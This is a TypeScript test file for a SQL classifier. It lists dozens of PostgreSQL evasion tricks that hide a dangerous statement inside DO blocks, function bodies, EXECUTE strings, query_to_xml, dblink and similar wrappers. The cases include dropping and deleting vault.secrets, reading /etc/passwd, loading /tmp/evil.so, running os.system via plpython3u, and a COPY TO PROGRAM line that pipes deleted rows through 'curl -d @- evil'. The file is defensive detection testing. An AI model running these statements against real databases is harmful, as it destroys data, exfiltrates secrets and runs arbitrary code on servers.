import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';

import {
  classifySql,
  initSqlParser,
  type ClassifiedStatement,
  type StatementKind,
} from '../../../../src/server/sql/index.js';

before(() => initSqlParser());

/**
 * Doors an adversary used, or could, to get a statement past rules on
 * kinds, tables and functions: each wraps something a rule would refuse
 * (a DROP, a read of `vault.secrets`, `pg_read_file`…) in something else.
 * Every case asserts that what the wrapper hides is found: its kind, table
 * or function is among the statement's, or the statement is `dynamic`
 * (unknowable) where what runs cannot be known from the text.
 */
interface Evasion {
  name: string;
  sql: string;
  kinds?: StatementKind[];
  tables?: string[];
  functions?: string[];
  groups?: string[];
  /** The statement is unknowable: kind `dynamic`, with this reason. */
  unknown?: string;
}

const EVASIONS: Evasion[] = [
  // DO blocks and PL/pgSQL.
  {
    name: 'DROP in a DO block',
    sql: 'do $$ begin drop table vault.secrets; end $$',
    kinds: ['drop'],
    tables: ['vault.secrets'],
  },
  {
    name: 'EXECUTE of a constant string',
    sql: "do $$ begin execute 'drop table vault.secrets'; end $$",
    kinds: ['drop'],
    tables: ['vault.secrets'],
  },
  {
    name: 'EXECUTE of a dollar-quoted constant',
    sql: 'do $$ begin execute $q$truncate vault.secrets$q$; end $$',
    kinds: ['truncate'],
    tables: ['vault.secrets'],
  },
  {
    name: 'EXECUTE of an E-string with escapes',
    sql: "do $$ begin execute E'delete from vault.secrets\\nwhere true'; end $$",
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'EXECUTE of a concatenation',
    sql: "do $$ begin execute 'drop table ' || 'vault.secrets'; end $$",
    unknown: 'dynamic-sql',
  },
  {
    name: 'EXECUTE format()',
    sql: "do $$ begin execute format('drop table %I.%I', 'vault', 'secrets'); end $$",
    unknown: 'dynamic-sql',
    functions: ['format'],
  },
  {
    name: 'EXECUTE quote_ident()',
    sql: "do $$ begin execute 'drop table ' || quote_ident('secrets'); end $$",
    unknown: 'dynamic-sql',
    functions: ['quote_ident'],
  },
  {
    name: 'EXECUTE of a variable',
    sql: "do $$ declare q text := 'drop table t'; begin execute q; end $$",
    unknown: 'dynamic-sql',
  },
  {
    name: 'EXECUTE … USING a dangerous argument',
    sql: "do $$ begin execute 'select $1' using pg_read_file('/etc/passwd'); end $$",
    functions: ['pg_read_file'],
    groups: ['@server-files'],
  },
  {
    name: 'PERFORM a dangerous function',
    sql: "do $$ begin perform pg_read_file('/etc/passwd'); end $$",
    functions: ['pg_read_file'],
  },
  {
    name: 'assignment from a subquery',
    sql: 'do $$ declare n int; begin n := (select count(*) from vault.secrets); end $$',
    kinds: ['select'],
    tables: ['vault.secrets'],
  },
  {
    name: 'assignment target subscript',
    sql: 'do $$ declare a int[]; begin a[(select id from vault.secrets limit 1)] := 1; end $$',
    tables: ['vault.secrets'],
  },
  {
    name: 'IF condition with a subquery',
    sql: 'do $$ begin if exists (select 1 from vault.secrets) then null; end if; end $$',
    tables: ['vault.secrets'],
  },
  {
    name: 'variable default',
    sql: "do $$ declare x text := pg_read_file('/etc/passwd'); begin null; end $$",
    functions: ['pg_read_file'],
  },
  {
    name: 'bound cursor declaration',
    sql: 'do $$ declare c cursor for select * from vault.secrets; begin open c; end $$',
    tables: ['vault.secrets'],
  },
  {
    name: 'FOR … IN query loop',
    sql: 'do $$ declare r record; begin for r in select * from vault.secrets loop end loop; end $$',
    tables: ['vault.secrets'],
  },
  {
    name: 'FOR … IN EXECUTE of a constant',
    sql: "do $$ declare r record; begin for r in execute 'select * from vault.secrets' loop end loop; end $$",
    tables: ['vault.secrets'],
  },
  {
    name: 'OPEN … FOR EXECUTE of a variable',
    sql: 'do $$ declare c refcursor; q text; begin open c for execute q; end $$',
    unknown: 'dynamic-sql',
  },
  {
    name: 'RETURN QUERY EXECUTE in a function',
    sql: "create function f() returns setof int language plpgsql as $$ begin return query execute 'delete from vault.secrets returning 1'; end $$",
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'exception handler',
    sql: 'do $$ begin perform 1; exception when others then delete from vault.secrets; end $$',
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'CASE branch',
    sql: 'do $$ begin case 1 when 1 then perform pg_terminate_backend(1); end case; end $$',
    groups: ['@signal-backends'],
  },
  {
    name: 'RAISE argument',
    sql: "do $$ begin raise notice '%', pg_read_file('/etc/passwd'); end $$",
    functions: ['pg_read_file'],
  },
  {
    name: 'DO in another language',
    sql: "do language plpython3u $$ import os; os.system('id') $$",
    unknown: 'language',
  },
  {
    name: 'nested DO through EXECUTE',
    sql: "do $a$ begin execute 'do $b$ begin drop table vault.secrets; end $b$'; end $a$",
    kinds: ['drop'],
    tables: ['vault.secrets'],
  },
  // Function and procedure bodies.
  {
    name: 'SQL function body as a string',
    sql: "create function f() returns void language sql as 'delete from vault.secrets'",
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'PL/pgSQL function body',
    sql: 'create function f() returns void language plpgsql as $$ begin delete from vault.secrets; end $$',
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'BEGIN ATOMIC procedure body',
    sql: 'create procedure p() language sql begin atomic delete from vault.secrets; end',
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'RETURN expression body',
    sql: "create function f() returns text language sql return pg_read_file('/etc/passwd')",
    functions: ['pg_read_file'],
  },
  {
    name: 'C function from a file',
    sql: "create function f() returns void language c as '/tmp/evil.so', 'f'",
    unknown: 'language',
    functions: ['language c'],
    groups: ['@code-loading'],
  },
  {
    name: 'function body lexed with other settings',
    sql: "create function f() returns void language plpgsql set standard_conforming_strings = off as $$ begin execute 'select 1'; end $$",
    unknown: 'lexer-settings',
  },
  {
    name: 'trigger function bound',
    sql: 'create trigger t before insert on vault.secrets for each row execute function pg_read_file()',
    functions: ['pg_read_file'],
    tables: ['vault.secrets'],
  },
  {
    name: 'operator bound to a dangerous function',
    sql: 'create operator ### (leftarg = text, rightarg = bigint, function = pg_read_file)',
    functions: ['pg_read_file'],
    groups: ['@server-files'],
  },
  {
    name: 'cast bound to a dangerous function',
    sql: 'create cast (text as bigint) with function pg_terminate_backend(int)',
    groups: ['@signal-backends'],
  },
  {
    name: 'aggregate bound to dblink_exec',
    sql: 'create aggregate a(text) (sfunc = dblink_exec, stype = text)',
    groups: ['@remote-servers'],
  },
  {
    name: 'rule action',
    sql: 'create rule r as on insert to t do also delete from vault.secrets',
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'COPY TO PROGRAM in a DO block',
    sql: "do $$ begin copy (select 1) to program 'id'; end $$",
    kinds: ['copy_to_program'],
    groups: ['@program-execution'],
  },
  {
    name: 'an untrusted-language function created through EXECUTE',
    sql: "do $a$ begin execute 'create function f() returns int language plpython3u as ''return 1'''; end $a$",
    unknown: 'language',
  },
  {
    name: 'LOAD through EXECUTE',
    sql: "do $$ begin execute 'load ''/tmp/evil.so'''; end $$",
    functions: ['load'],
    groups: ['@code-loading'],
  },
  // Functions that run SQL from strings.
  {
    name: 'query_to_xml of a constant',
    sql: "select query_to_xml('delete from vault.secrets returning *', true, false, '')",
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'query_to_xml of a parameter',
    sql: "select query_to_xml($1, true, false, '')",
    unknown: 'dynamic-sql',
  },
  {
    name: 'query_to_xml under xpath',
    sql: "select xpath('//row', query_to_xml('select * from vault.secrets', true, false, ''))",
    tables: ['vault.secrets'],
  },
  {
    name: 'table_to_xml names a table in a string',
    sql: "select table_to_xml('vault.secrets', true, false, '')",
    kinds: ['select'],
    tables: ['vault.secrets'],
  },
  {
    name: 'schema_to_xml reads a whole schema',
    sql: "select schema_to_xml('vault', true, false, '')",
    unknown: 'dynamic-sql',
  },
  {
    name: 'ts_stat runs its query',
    sql: "select * from ts_stat('select body from vault.secrets')",
    tables: ['vault.secrets'],
  },
  {
    name: 'ts_rewrite runs its query',
    sql: "select ts_rewrite('a'::tsquery, 'select t, s from vault.secrets')",
    tables: ['vault.secrets'],
  },
  {
    name: 'dblink to this server',
    sql: "select * from dblink('dbname=app', 'drop table vault.secrets') as r(x text)",
    kinds: ['drop'],
    tables: ['vault.secrets'],
  },
  {
    name: 'dblink_exec of a variable',
    sql: "select dblink_exec('dbname=app', current_setting('my.sql'))",
    unknown: 'dynamic-sql',
  },
  {
    name: 'cursor_to_xml of a cursor opened elsewhere',
    sql: "select cursor_to_xml('c'::refcursor, 10, true, false, '')",
    unknown: 'dynamic-sql',
  },
  {
    name: 'named argument hides the query',
    sql: "select query_to_xml(query => 'delete from t', nulls => true, tableforest => false, targetns => '')",
    unknown: 'dynamic-sql',
  },
  // Statements inside other statements.
  {
    name: 'PREPARE',
    sql: 'prepare p as delete from vault.secrets',
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'DECLARE CURSOR',
    sql: 'declare c cursor for select * from vault.secrets',
    kinds: ['select'],
    tables: ['vault.secrets'],
  },
  {
    name: 'EXPLAIN ANALYZE runs it',
    sql: 'explain analyze delete from vault.secrets',
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'CREATE TABLE AS',
    sql: 'create table x as select * from vault.secrets',
    kinds: ['select'],
    tables: ['vault.secrets'],
  },
  {
    name: 'SELECT INTO',
    sql: 'select * into x from vault.secrets',
    kinds: ['ddl', 'select'],
    tables: ['vault.secrets'],
  },
  {
    name: 'data-modifying CTE',
    sql: 'with d as (delete from vault.secrets returning *) select 1',
    kinds: ['delete'],
    tables: ['vault.secrets'],
  },
  {
    name: 'COPY of a DML query to a program',
    sql: "copy (delete from vault.secrets returning *) to program 'curl -d @- evil'",
    kinds: ['copy_to_program', 'delete'],
    groups: ['@program-execution'],
  },
  {
    name: 'large object from a server file',
    sql: "select lo_import('/etc/passwd')",
    kinds: ['insert'],
    groups: ['@server-files', '@large-objects'],
  },
  {
    name: 'large object unlink',
    sql: 'select lo_unlink(16384)',
    kinds: ['delete'],
    tables: ['pg_catalog.pg_largeobject'],
  },
  {
    name: 'set_config as SET ROLE',
    sql: "select set_config('role', 'admin', false)",
    kinds: ['set'],
    groups: ['@configuration'],
  },
  { name: 'pg_notify as NOTIFY', sql: "select pg_notify('ch', 'x')", kinds: ['notify'] },
  {
    name: 'ALTER SYSTEM',
    sql: "alter system set shared_preload_libraries = 'evil'",
    functions: ['alter system'],
    groups: ['@configuration'],
  },
  { name: 'LOAD', sql: "load '/tmp/evil.so'", functions: ['load'], groups: ['@code-loading'] },
  {
    name: 'a CTE that calls a dangerous function in a DO',
    sql: "do $$ declare n int; begin with x as (select pg_ls_dir('/')) select 1 into n from x; end $$",
    groups: ['@server-files'],
  },
];

function check(statement: ClassifiedStatement, evasion: Evasion): void {
  const missing = (label: string, want: string[] | undefined, have: readonly string[]) => {
    for (const item of want ?? []) {
      assert.ok(have.includes(item), `${label}: ${item} not in ${JSON.stringify(have)}`);
    }
  };
  missing('kinds', evasion.kinds, statement.kinds);
  missing('tables', evasion.tables, statement.tables);
  missing('functions', evasion.functions, statement.functions);
  missing('groups', evasion.groups, statement.functionGroups);
  if (evasion.unknown !== undefined) {
    assert.ok(
      statement.kinds.includes('dynamic'),
      `not dynamic: ${JSON.stringify(statement.kinds)}`,
    );
    assert.ok(
      statement.unknown.some((u) => u.reason === evasion.unknown),
      `no ${evasion.unknown} in ${JSON.stringify(statement.unknown)}`,
    );
  }
}

describe('classifySql: what a wrapper hides is found', () => {
  it('has at least 40 cases', () => assert.ok(EVASIONS.length >= 40, String(EVASIONS.length)));

  for (const evasion of EVASIONS) {
    it(evasion.name, () => {
      const result = classifySql(evasion.sql);
      assert.ok(result.ok, `did not classify: ${JSON.stringify(result)}`);
      assert.equal(result.statements.length, 1);
      check(result.statements[0]!, evasion);
    });
  }
});
